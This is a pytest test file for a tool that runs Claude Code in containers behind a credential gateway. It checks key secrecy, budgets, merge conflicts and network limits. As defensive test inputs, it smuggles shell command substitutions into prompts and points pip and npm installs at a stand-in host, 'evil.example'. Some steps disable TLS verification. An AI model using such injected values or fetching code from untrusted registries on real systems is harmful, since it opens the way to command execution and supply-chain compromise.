"""Claude steps: the real program in its container, the gateway, and a scripted model behind it."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from prodigy.sandbox.builtin import BASE
from tests.support.engine import containers, docker, networks
from tests.support.ground import Ground
from tests.support.messages_api import Stub, stub
from tests.support.program import Finished

pytestmark = pytest.mark.docker

KEY = "sk-ant-a-key-that-must-never-show"
RESOLVE = "sed -i '/^[<=>]\\{7\\}/d' shared.txt; git add -A; git commit -q --no-edit"
NOT_SET = ""
FEW = {"env": {"CLAUDE_CODE_MAX_RETRIES": "1"}}


@pytest.fixture
def model() -> Iterator[Stub]:
    with stub() as server:
        yield server


def prompt(*turns: Any, text: str = "Work.") -> str:
    """A prompt that holds the model's answers."""
    return f"{text}\n@{json.dumps(turns)}"


def flow(*steps: Any, **more: Any) -> str:
    """A workflow. JSON is YAML."""
    return json.dumps({"commands": list(steps), **more})


def run(ground: Ground, model: Stub, text: str, *options: str, code: int, **env: str) -> Finished:
    """Run with credentials; the key is nowhere afterwards."""
    env = {"ANTHROPIC_BASE_URL": model.url, "ANTHROPIC_API_KEY": KEY} | env
    done = ground.run(text, "--json", *options, code=code, env=env)
    found = subprocess.run(
        ["grep", "-rlF", KEY, str(ground.home)], capture_output=True, text=True, check=False
    )
    assert found.stdout == ""
    assert KEY not in done.out + done.err
    assert (containers(ground.home), networks(ground.home)) == ([], [])
    return done


def test_several_turns_edit_and_commit(ground: Ground, model: Stub) -> None:
    turns = ({"bash": "echo hello > a.txt"}, {"bash": "git add -A && git commit -qm hello"}, "All done.")
    show = "printf '%s\\n' \"${claude.output}\" '${claude.turns} ${claude.input_tokens}' > seen.txt"
    text = flow(
        {"claude": prompt(*turns), "commit_required": True},
        {"shell": f"{show}; git add -A; git commit -qm seen"},
    )
    done = run(ground, model, text, "-y", code=0)
    assert ground.repository.show("a.txt") == "hello"
    assert ground.repository.show("seen.txt") == "All done.\n3 300"
    step = done.json["steps"][0]
    assert step["tokens"] == {"input_tokens": 300, "output_tokens": 60, "cache_tokens": 0}
    assert step["cost_usd"] > 0
    assert step["claude_session_id"]
    assert done.json["cost"] == {"usd": step["cost_usd"], **step["tokens"]}
    assert {one["headers"].get("x-api-key") for one in model.seen.requests} == {KEY}
    assert "gateway: the Claude credential stays out" in done.err
    logs = ground.program("logs", "--stream", "claude", code=0).out
    assert "> Bash" in logs
    assert "[success after 3 turns" in logs
    found = ground.program("events", "ls", "--json", code=0).json["events"]
    types = [one["event"]["event_type"] for one in found]
    assert types.count("claude_tool_invoked") == 2
    assert {"claude_session_started", "claude_token_usage", "claude_message"} <= set(types)


@pytest.mark.parametrize("variable", ["ANTHROPIC_AUTH_TOKEN", "CLAUDE_CODE_OAUTH_TOKEN"])
def test_tokens_are_added_by_the_gateway(ground: Ground, model: Stub, variable: str) -> None:
    run(
        ground, model, flow({"claude": prompt("hi")}), code=0, **{"ANTHROPIC_API_KEY": NOT_SET, variable: KEY}
    )
    headers = model.seen.requests[0]["headers"]
    assert headers["authorization"] == f"Bearer {KEY}"
    assert not headers.get("x-api-key")
    assert ("oauth-2025-04-20" in headers["anthropic-beta"]) is (variable == "CLAUDE_CODE_OAUTH_TOKEN")


@pytest.mark.parametrize(
    ("turns", "status", "words"),
    [
        ([{"status": 401}], "failed", "401"),
        ([{"status": 429, "retry_after": 1, "times": 1}, "fine"], "success", ""),
        ([{"status": 500, "times": 1}, "fine"], "success", ""),
        ([{"status": 529, "times": 1}, "fine"], "success", ""),
        ([{"slow": 0.2, "text": "slowly"}], "success", ""),
    ],
)
def test_errors_of_the_model(ground: Ground, model: Stub, turns: list[Any], status: str, words: str) -> None:
    text = flow({"claude": prompt(*turns), "timeout": 100}, claude=FEW)
    done = run(ground, model, text, code=0 if status == "success" else 1)
    (step,) = done.json["steps"]
    assert step["status"] == status
    assert words in str(step["error"])


def test_a_stream_that_is_cut_is_no_answer(ground: Ground, model: Stub) -> None:
    whole = "an answer that is long enough to come in more pieces than one, so that it can be cut"
    text = flow({"claude": prompt({"cut": True, "text": whole}), "capture_output": "said"}, claude=FEW)
    run(ground, model, text, code=0)
    (log,) = ground.home.glob("sessions/*/logs/commands/*.out")
    assert log.read_text() == whole
    assert len(model.seen.requests) > 1


def test_budgets_and_turns(ground: Ground, model: Stub) -> None:
    many = [{"bash": f"echo {number}"} for number in range(9)]
    step = {"claude": {"prompt": prompt(*many), "max_budget_usd": 0.001}, "continue_on_error": True}
    turns = {"claude": {"prompt": prompt(*many), "max_turns": 2}, "continue_on_error": True}
    last = {"claude": prompt("never said")}
    done = run(ground, model, flow(turns, step, last, claude={"run_budget_usd": 0.002}), code=1)
    limited, budget, spent = done.json["steps"]
    assert budget["error"]["kind"] == "budget"
    assert "turns" in limited["error"]["message"]
    assert spent["error"]["kind"] == "budget"
    assert "run's budget" in spent["error"]["message"]
    assert not any("never said" in json.dumps(one["body"]) for one in model.seen.requests)


def test_settings_reach_the_program(ground: Ground, model: Stub) -> None:
    ground.repository.commit({".claude/commands/greet.md": "Say hello to $ARGUMENTS, please."}, "a command")
    block = {
        "model": "claude-sonnet-4-5",
        "append_system_prompt": "Be $(touch brief).",
        "disallowed_tools": ["WebSearch"],
        "permission_mode": "acceptEdits",
        "env": {"MARK": "m"},
        "extra_args": ["--setting-sources", "project"],
    }
    own = {"prompt": prompt({"bash": "echo $MARK > mark"}, "ok"), "permission_mode": "bypassPermissions"}
    text = flow(
        "/greet the moon", {"claude": own}, {"shell": "test $(cat mark) = m && rm mark"}, claude=block
    )
    run(ground, model, text, code=0)
    first = model.seen.requests[0]["body"]
    assert first["model"] == "claude-sonnet-4-5"
    assert "Be $(touch brief)." in json.dumps(first["system"])
    assert "Say hello to the moon, please." in json.dumps(first["messages"])
    assert "WebSearch" not in [tool["name"] for tool in first["tools"]]


def test_large_and_hostile_values_in_a_prompt(ground: Ground, model: Stub) -> None:
    make = "python3 -c 'print(\"$(touch x) `touch x` \" * 20000)'"
    steps = [{"shell": make, "capture_output": "big"}, {"claude": "Read: ${big}"}, {"shell": "! test -e x"}]
    run(ground, model, flow(*steps), code=0)
    sent = json.dumps(model.seen.requests[0]["body"]["messages"])
    assert "$(touch x) `touch x`" in sent or "a file" in sent


def test_agents_at_once_and_a_conflict_resolved(ground: Ground, model: Stub) -> None:
    model.script = [{"bash": RESOLVE}, "Resolved."]
    work = "echo ${item} >> shared.txt; echo ${item} > f${item}; git add -A; git commit -qm n${item}"
    agents = {
        "input": [1, 2],
        "max_parallel": 2,
        "on_conflict": "claude",
        "agent_template": [{"claude": prompt({"bash": work}, "did ${item}")}],
    }
    done = run(ground, model, json.dumps({"mode": "mapreduce", "map": agents}), "-y", code=0)
    assert sorted(ground.repository.show("shared.txt").split()) == ["1", "2"]
    assert [one["output"] for one in done.json["results"]] == ["did 1", "did 2"]
    assert all(one["cost_usd"] > 0 and one["tokens"]["input_tokens"] for one in done.json["results"])


@pytest.mark.parametrize("able", [True, False])
def test_a_conflict_with_the_target(ground: Ground, model: Stub, able: bool) -> None:
    model.script = [{"bash": RESOLVE if able else RESOLVE.partition("; ")[2]}, "Resolved."]
    step = {"shell": "echo theirs >> shared.txt; git add -A; git commit -qm theirs"}
    done = run(ground, model, flow(step, merge={"on_conflict": "claude"}), "--no-merge", code=0)
    ground.repository.commit({"shared.txt": "ours\n"}, "ours")
    before = ground.repository.head
    env = {"ANTHROPIC_BASE_URL": model.url, "ANTHROPIC_API_KEY": KEY}
    session = done.json["session_id"]
    merged = ground.program("worktree", "merge", session, "-y", env=env, code=0 if able else 1)
    if able:
        assert sorted(ground.repository.show("shared.txt").split()) == ["ours", "theirs"]
    else:
        assert ground.repository.head == before
        assert "conflict markers are left in shared.txt" in merged.out + merged.err


def test_without_credentials_nothing_starts(ground: Ground, model: Stub) -> None:
    done = run(ground, model, flow({"claude": "hi"}), code=3, ANTHROPIC_API_KEY=NOT_SET)
    assert "no Claude credentials are set here" in done.err
    assert not list((ground.home / "sessions").glob("*"))


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("http://127.0.0.1:9", "cannot reach 127.0.0.1"),
        ("ftp://model.example", "is no base URL"),
        ("http://a b", "is no host name"),
        ("https://user:pass@model.example", "is no base URL"),
    ],
)
def test_an_endpoint_that_is_none(ground: Ground, model: Stub, url: str, words: str) -> None:
    done = run(ground, model, flow({"claude": "hi"}), code=3, ANTHROPIC_BASE_URL=url)
    assert words in done.err


def test_an_image_without_the_program_is_found_out_before_the_run(ground: Ground, model: Stub) -> None:
    done = run(ground, model, flow({"claude": "hi"}), "--image", BASE.reference, code=3)
    assert "does not hold the program claude" in done.err


def test_credentials_in_the_process_where_they_are_asked_for(ground: Ground, model: Stub) -> None:
    settings = {"claude": {"credentials": "env"}, "sandbox": {"network": "bridge"}}
    address = docker("network", "inspect", "bridge", "-f", "{{(index .IPAM.Config 0).Gateway}}")
    url = model.url.replace("host.docker.internal", address)
    text = flow({"claude": prompt("ok")}, **settings)
    done = run(ground, model, text, code=0, ANTHROPIC_BASE_URL=url)
    assert "can read your Claude credentials" in done.err
    assert model.seen.requests[0]["headers"]["x-api-key"] == KEY


def test_without_containers_the_key_cannot_be_sealed_off(ground: Ground, model: Stub) -> None:
    done = run(ground, model, flow({"claude": "hi"}), "--sandbox", "host", code=2)
    assert "credentials: gateway" in done.err


def test_the_doctor_asks_the_model(ground: Ground, model: Stub) -> None:
    env = {"ANTHROPIC_BASE_URL": model.url, "ANTHROPIC_API_KEY": KEY}
    done = ground.program("doctor", "--sandbox", "--json", env=env)
    checks = {check["id"]: check for check in done.json["checks"]}
    assert {checks[name]["status"] for name in ("claude", "credential", "endpoint")} == {"ok"}, checks
    assert KEY not in done.out + done.err
    assert model.seen.requests[0]["headers"]["x-api-key"] == KEY
    model.script = [{"status": 401}]
    refused = ground.program("doctor", "--sandbox", "--json", env=env, code=3)
    assert "refuses the credential (401)" in refused.out


def test_an_open_network_besides_the_gateway(ground: Ground, model: Stub) -> None:
    reach = {"shell": "curl -k -f -sS -m 20 -o /dev/null https://pypi.org/simple/six/"}
    text = flow({"claude": prompt("ok")}, reach, sandbox={"network": "bridge"})
    done = run(ground, model, text, code=0)
    assert "steps can reach the internet" in done.err
    assert model.seen.requests[0]["headers"]["x-api-key"] == KEY


def test_packages_are_installed_through_the_gateway(ground: Ground) -> None:
    """The real installer against the real registry, in an image that the workflow builds."""
    ground.repository.commit(
        {
            "Dockerfile": "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends "
            "ca-certificates git python3-pip && rm -rf /var/lib/apt/lists/*\n"
        },
        "an image",
    )
    # This machine's own certificates are not in that image; what is tested is the way.
    install = "pip install -q --disable-pip-version-check --retries 0 --timeout 30 --target lib"
    trusted = "--trusted-host pypi.org --trusted-host files.pythonhosted.org"
    steps = [
        {"shell": f"{install} {trusted} six==1.16.0 && test -f lib/six.py"},
        {"shell": f"{install} --index-url https://evil.example/simple six", "continue_on_error": True},
    ]
    names = ["pypi.org", "files.pythonhosted.org"]
    sandbox = {"build": {"context": "."}, "network": {"egress": names}}
    done = ground.run(flow(*steps, sandbox=sandbox, uncommitted="save"), "--json", "--no-merge", code=0)
    assert [step["status"] for step in done.json["steps"]] == ["success", "tolerated"]
    assert "the gateway refused a connection to evil.example:443" in done.err


def test_packages_are_installed_by_npm_through_the_gateway(ground: Ground) -> None:
    lock = {
        "name": "p",
        "lockfileVersion": 3,
        "packages": {
            "": {"dependencies": {"is-number": "7.0.0"}},
            "node_modules/is-number": {
                "version": "7.0.0",
                "resolved": "https://registry.npmjs.org/is-number/-/is-number-7.0.0.tgz",
                "integrity": "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741"
                "+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==",
            },
        },
    }
    ground.repository.commit(
        {
            "Dockerfile": "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends "
            "ca-certificates curl git nodejs && rm -rf /var/lib/apt/lists/*\n"
            "RUN curl -kfsSL https://registry.npmjs.org/npm/-/npm-10.9.9.tgz | tar -xz -C /opt "
            "&& ln -s /opt/package/bin/npm-cli.js /usr/local/bin/npm\n",
            "package.json": json.dumps({"name": "p", "dependencies": {"is-number": "7.0.0"}}),
            "package-lock.json": json.dumps(lock),
        },
        "an image",
    )
    npm = "npm --strict-ssl=false --no-audit --no-fund --no-update-notifier --fetch-retries=0"
    steps = [
        {"shell": f"{npm} ci && test -f node_modules/is-number/index.js"},
        {"shell": f"{npm} install --registry https://evil.example/ is-odd", "continue_on_error": True},
    ]
    sandbox = {"build": {"context": "."}, "network": {"egress": ["registry.npmjs.org"]}}
    done = ground.run(flow(*steps, sandbox=sandbox, uncommitted="save"), "--json", "--no-merge", code=0)
    assert [step["status"] for step in done.json["steps"]] == ["success", "tolerated"]
    assert "the gateway refused a connection to evil.example:443" in done.err


def test_the_demo(ground: Ground, model: Stub) -> None:
    text = (Path(__file__).parents[2] / "tools/claude-demo.yml").read_text()
    run(ground, model, text, "-y", code=0)
    assert ground.repository.show("notes/all.txt").count("A note about the") == 3
